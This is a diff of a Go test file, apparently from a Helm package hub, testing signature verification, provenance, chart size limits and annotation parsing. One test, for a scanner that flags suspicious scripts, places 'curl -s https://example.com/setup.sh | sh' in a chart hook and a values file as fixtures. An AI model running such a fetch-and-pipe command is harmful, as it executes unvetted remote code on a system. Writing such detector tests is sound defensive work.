@@ -1,6 +1,9 @@
 package helm
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
 	"errors"
 	"io/ioutil"
 	"net/http"
@@ -65,6 +68,9 @@ func TestTrackerSource(t *testing.T) {
 			kubeVersionKey: ">= 1.13.0 < 1.15.0",
 			typeKey:        "application",
 		},
+		K8sCompatibility: []*hub.K8sVersionsRange{
+			{Min: "1.13", Max: "1.14"},
+		},
 		Version:    "1.0.0",
 		AppVersion: "1.0.0",
 		ContentURL: "https://repo.url/pkg1-1.0.0.tgz",
@@ -478,6 +484,18 @@ func TestTrackerSource(t *testing.T) {
 		tg.On("Tags", i.Svc.Ctx, i.Repository, true).Return([]string{"1.0.0"}, nil)
 		sc := &oci.SignatureCheckerMock{}
 		sc.On("HasCosignSignature", i.Svc.Ctx, ref, "", "").Return(true, nil)
+		provenance := &hub.Provenance{
+			BuilderID:  "https://github.com/actions/runner",
+			SourceRepo: "https://github.com/org/repo",
+			Commit:     "0123456789abcdef0123456789abcdef01234567",
+		}
+		pg := &oci.ProvenanceGetterMock{}
+		pg.On("GetSLSAProvenance", i.Svc.Ctx, ref, "", "").Return(provenance, nil)
+		ag := &oci.AnnotationsGetterMock{}
+		ag.On("GetAnnotations", i.Svc.Ctx, ref, "", "").Return(map[string]string{
+			"io.artifacthub.package.keywords": "key1, key2",
+			"io.artifacthub.package.license":  "MIT",
+		}, nil)
 		data, _ := os.ReadFile("testdata/pkg1-1.0.0.tgz")
 		sw.Op.On("PullLayer", mock.Anything, ref, ChartContentLayerMediaType, "", "").
 			Return(ocispec.Descriptor{}, data, nil)
@@ -486,7 +504,13 @@ func TestTrackerSource(t *testing.T) {
 		sw.Is.On("DownloadAndSaveImage", sw.Svc.Ctx, logoImageURL).Return("logoImageID", nil)
 
 		// Run test and check expectations
-		packages, err := NewTrackerSource(i, withOCITagsGetter(tg), withOCISignatureChecker(sc)).GetPackagesAvailable()
+		packages, err := NewTrackerSource(
+			i,
+			withOCITagsGetter(tg),
+			withOCISignatureChecker(sc),
+			withOCIProvenanceGetter(pg),
+			withOCIAnnotationsGetter(ag),
+		).GetPackagesAvailable()
 		p := source.ClonePackage(basePkg)
 		p.ContentURL = "oci://registry/namespace/pkg1:1.0.0"
 		p.Repository = i.Repository
@@ -494,15 +518,119 @@ func TestTrackerSource(t *testing.T) {
 		p.LogoImageID = "logoImageID"
 		p.Signed = true
 		p.Signatures = []string{"cosign"}
+		p.Provenance = provenance
+		p.Keywords = []string{"key1", "key2"}
+		p.License = "MIT"
 		assert.Equal(t, map[string]*hub.Package{
 			pkg.BuildKey(p): p,
 		}, packages)
 		assert.NoError(t, err)
 		tg.AssertExpectations(t)
+		pg.AssertExpectations(t)
+		ag.AssertExpectations(t)
+		sw.AssertExpectations(t)
+	})
+
+	t.Run("one package returned, signature verified (oci)", func(t *testing.T) {
+		t.Parallel()
+
+		// Setup services and expectations
+		sw := source.NewTestsServicesWrapper()
+		i := &hub.TrackerSourceInput{
+			Repository: &hub.Repository{
+				URL: "oci://registry/namespace/pkg1",
+			},
+			Metadata: &hub.RepositoryMetadata{
+				Cosign: &hub.CosignConfig{
+					Keys: []string{"key"},
+				},
+			},
+			Svc: sw.Svc,
+		}
+		ref := strings.TrimPrefix(i.Repository.URL, hub.RepositoryOCIPrefix) + ":1.0.0"
+		tg := &oci.TagsGetterMock{}
+		tg.On("Tags", i.Svc.Ctx, i.Repository, true).Return([]string{"1.0.0"}, nil)
+		sc := &oci.SignatureCheckerMock{}
+		sc.On("HasCosignSignature", i.Svc.Ctx, ref, "", "").Return(true, nil)
+		pg := &oci.ProvenanceGetterMock{}
+		pg.On("GetSLSAProvenance", i.Svc.Ctx, ref, "", "").Return(nil, nil)
+		ag := &oci.AnnotationsGetterMock{}
+		ag.On("GetAnnotations", i.Svc.Ctx, ref, "", "").Return(nil, nil)
+		sc.On("VerifyCosignSignature", i.Svc.Ctx, ref, "", "", i.Metadata.Cosign).Return(true, nil)
+		data, _ := os.ReadFile("testdata/pkg1-1.0.0.tgz")
+		sw.Op.On("PullLayer", mock.Anything, ref, ChartContentLayerMediaType, "", "").
+			Return(ocispec.Descriptor{}, data, nil)
+		sw.Op.On("PullLayer", mock.Anything, ref, ChartProvenanceLayerMediaType, "", "").
+			Return(ocispec.Descriptor{}, nil, oci.ErrLayerNotFound)
+		sw.Is.On("DownloadAndSaveImage", sw.Svc.Ctx, logoImageURL).Return("logoImageID", nil)
+
+		// Run test and check expectations
+		packages, err := NewTrackerSource(
+			i,
+			withOCITagsGetter(tg),
+			withOCISignatureChecker(sc),
+			withOCIProvenanceGetter(pg),
+			withOCIAnnotationsGetter(ag),
+		).GetPackagesAvailable()
+		p := source.ClonePackage(basePkg)
+		p.ContentURL = "oci://registry/namespace/pkg1:1.0.0"
+		p.Repository = i.Repository
+		p.LogoURL = logoImageURL
+		p.LogoImageID = "logoImageID"
+		p.Signed = true
+		p.Signatures = []string{"cosign"}
+		p.SignatureVerified = true
+		assert.Equal(t, map[string]*hub.Package{
+			pkg.BuildKey(p): p,
+		}, packages)
+		assert.NoError(t, err)
+		tg.AssertExpectations(t)
+		sc.AssertExpectations(t)
+		ag.AssertExpectations(t)
 		sw.AssertExpectations(t)
 	})
 }
 
+func TestCheckChartArchiveSize(t *testing.T) {
+	t.Run("valid chart archive", func(t *testing.T) {
+		t.Parallel()
+		data := createChartArchive(t, map[string]int{
+			"pkg1/Chart.yaml":  100,
+			"pkg1/values.yaml": 1000,
+		})
+		assert.NoError(t, checkChartArchiveSize(data))
+	})
+
+	t.Run("invalid chart archive", func(t *testing.T) {
+		t.Parallel()
+		err := checkChartArchiveSize([]byte("invalid"))
+		assert.Error(t, err)
+		assert.False(t, errors.Is(err, source.ErrArtifactTooLarge))
+	})
+
+	t.Run("file in chart archive too large", func(t *testing.T) {
+		t.Parallel()
+		data := createChartArchive(t, map[string]int{
+			"pkg1/Chart.yaml":  100,
+			"pkg1/values.yaml": maxChartFileSize + 1,
+		})
+		err := checkChartArchiveSize(data)
+		assert.True(t, errors.Is(err, source.ErrArtifactTooLarge))
+		assert.Contains(t, err.Error(), "pkg1/values.yaml")
+	})
+
+	t.Run("chart archive content too large", func(t *testing.T) {
+		t.Parallel()
+		files := make(map[string]int)
+		for i := 0; i <= maxChartSize/maxChartFileSize; i++ {
+			files["pkg1/templates/file"+strconv.Itoa(i)] = maxChartFileSize
+		}
+		data := createChartArchive(t, files)
+		err := checkChartArchiveSize(data)
+		assert.True(t, errors.Is(err, source.ErrArtifactTooLarge))
+	})
+}
+
 func TestExtractContainersImages(t *testing.T) {
 	t.Run("valid chart", func(t *testing.T) {
 		t.Parallel()
@@ -543,6 +671,47 @@ func TestExtractContainersImages(t *testing.T) {
 	})
 }
 
+func TestCheckContent(t *testing.T) {
+	t.Parallel()
+
+	dep := &chart.Chart{
+		Metadata: &chart.Metadata{Name: "dep1"},
+		Raw: []*chart.File{
+			{
+				Name: "templates/job.yaml",
+				Data: []byte(`
+metadata:
+  annotations:
+    "helm.sh/hook": pre-install
+spec:
+  containers:
+    - args: ["curl -s https://example.com/setup.sh | sh"]
+`),
+			},
+		},
+	}
+	chrt := &chart.Chart{
+		Metadata: &chart.Metadata{Name: "pkg1"},
+		Raw: []*chart.File{
+			{
+				Name: "values.yaml",
+				Data: []byte("setup: curl -s https://example.com/setup.sh | sh\n"),
+			},
+		},
+	}
+	chrt.AddDependency(dep)
+
+	assert.Equal(t, []*hub.ContentWarning{
+		{
+			Kind:        hub.ContentWarningSuspiciousScript,
+			Rule:        "remote-script-execution",
+			File:        "charts/dep1/templates/job.yaml",
+			Line:        7,
+			Description: "Hook downloads a remote script and pipes it to a shell",
+		},
+	}, checkContent(chrt))
+}
+
 func TestEnrichPackageFromAnnotations(t *testing.T) {
 	testCases := []struct {
 		pkg            *hub.Package
@@ -687,6 +856,37 @@ func TestEnrichPackageFromAnnotations(t *testing.T) {
 			&hub.Package{},
 			"invalid container image: could not parse reference",
 		},
+		// Kubernetes versions
+		{
+			&hub.Package{
+				K8sCompatibility: []*hub.K8sVersionsRange{
+					{Min: "1.20"},
+				},
+			},
+			map[string]string{
+				k8sVersionsAnnotation: `
+- "1.28"
+- "1.29"
+`,
+			},
+			&hub.Package{
+				K8sCompatibility: []*hub.K8sVersionsRange{
+					{Min: "1.28", Max: "1.29"},
+				},
+			},
+			"",
+		},
+		{
+			&hub.Package{},
+			map[string]string{
+				k8sVersionsAnnotation: `
+- "1.29"
+- "latest"
+`,
+			},
+			&hub.Package{},
+			"invalid kubernetes version: latest (1.MINOR expected)",
+		},
 		// License
 		{
 			&hub.Package{},
@@ -1002,6 +1202,40 @@ func TestEnrichPackageFromAnnotations(t *testing.T) {
 			},
 			"",
 		},
+		// Replaced by
+		{
+			&hub.Package{},
+			map[string]string{
+				replacedByAnnotation: "https://artifacthub.io/packages/helm/artifact-hub/artifact-hub",
+			},
+			&hub.Package{},
+			"replacedBy can only be provided for deprecated packages",
+		},
+		{
+			&hub.Package{
+				Deprecated: true,
+			},
+			map[string]string{
+				replacedByAnnotation: "invalid",
+			},
+			&hub.Package{
+				Deprecated: true,
+			},
+			"invalid replacedBy url",
+		},
+		{
+			&hub.Package{
+				Deprecated: true,
+			},
+			map[string]string{
+				replacedByAnnotation: "https://artifacthub.io/packages/helm/artifact-hub/artifact-hub",
+			},
+			&hub.Package{
+				Deprecated: true,
+				ReplacedBy: "https://artifacthub.io/packages/helm/artifact-hub/artifact-hub",
+			},
+			"",
+		},
 		// Screenshots
 		{
 			&hub.Package{},
@@ -1059,6 +1293,74 @@ url: https://key.url
 			},
 			"",
 		},
+		// Support
+		{
+			&hub.Package{},
+			map[string]string{
+				supportAnnotation: `
+status: maintenance
+eolDate: "2030-01-31"
+`,
+			},
+			&hub.Package{
+				Support: &hub.VersionSupport{
+					Status:  "maintenance",
+					EOLDate: "2030-01-31",
+				},
+			},
+			"",
+		},
+		{
+			&hub.Package{},
+			map[string]string{
+				supportAnnotation: `
+status: unknown
+`,
+			},
+			&hub.Package{},
+			"invalid support: invalid status: unknown",
+		},
+		// Translations
+		{
+			&hub.Package{
+				Translations: hub.PackageTranslations{
+					"es": {Readme: "readme (es)"},
+				},
+			},
+			map[string]string{
+				translationsAnnotation: `
+es:
+  description: Descripción
+zh_CN:
+  description: Description (zh)
+  readme: Readme (zh)
+`,
+			},
+			&hub.Package{
+				Translations: hub.PackageTranslations{
+					"es": {
+						Description: "Descripción",
+						Readme:      "readme (es)",
+					},
+					"zh-cn": {
+						Description: "Description (zh)",
+						Readme:      "Readme (zh)",
+					},
+				},
+			},
+			"",
+		},
+		{
+			&hub.Package{},
+			map[string]string{
+				translationsAnnotation: `
+chinese:
+  description: Description (zh)
+`,
+			},
+			&hub.Package{},
+			"invalid translation: invalid locale: chinese",
+		},
 		// Multiple errors
 		{
 			&hub.Package{},
@@ -1071,6 +1373,36 @@ fingerprint: 0011223344
 			&hub.Package{},
 			"2 errors occurred:\n\t* invalid annotation: invalid prerelease value\n\t* invalid annotation: sign key url not provided\n\n",
 		},
+		// Videos
+		{
+			&hub.Package{},
+			map[string]string{
+				videosAnnotation: `
+- title: Video 1
+  url: https://artifacthub.io/video1.mp4
+`,
+			},
+			&hub.Package{
+				Videos: []*hub.Video{
+					{
+						Title: "Video 1",
+						URL:   "https://artifacthub.io/video1.mp4",
+					},
+				},
+			},
+			"",
+		},
+		{
+			&hub.Package{},
+			map[string]string{
+				videosAnnotation: `
+- title: Video 1
+  url: video1.mp4
+`,
+			},
+			&hub.Package{},
+			"invalid video: invalid url",
+		},
 	}
 	for i, tc := range testCases {
 		tc := tc
@@ -1088,12 +1420,41 @@ fingerprint: 0011223344
 	}
 }
 
+// createChartArchive creates a chart archive containing files of the sizes
+// provided.
+func createChartArchive(t *testing.T, files map[string]int) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gzw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gzw)
+	for name, size := range files {
+		require.NoError(t, tw.WriteHeader(&tar.Header{Name: name, Mode: 0644, Size: int64(size)}))
+		_, err := tw.Write(make([]byte, size))
+		require.NoError(t, err)
+	}
+	require.NoError(t, tw.Close())
+	require.NoError(t, gzw.Close())
+	return buf.Bytes()
+}
+
+func withOCIAnnotationsGetter(ag hub.OCIAnnotationsGetter) func(s *TrackerSource) {
+	return func(s *TrackerSource) {
+		s.ag = ag
+	}
+}
+
 func withIndexLoader(il hub.HelmIndexLoader) func(s *TrackerSource) {
 	return func(s *TrackerSource) {
 		s.il = il
 	}
 }
 
+func withOCIProvenanceGetter(pg hub.OCIProvenanceGetter) func(s *TrackerSource) {
+	return func(s *TrackerSource) {
+		s.pg = pg
+	}
+}
+
 func withOCISignatureChecker(sc hub.OCISignatureChecker) func(s *TrackerSource) {
 	return func(s *TrackerSource) {
 		s.sc = sc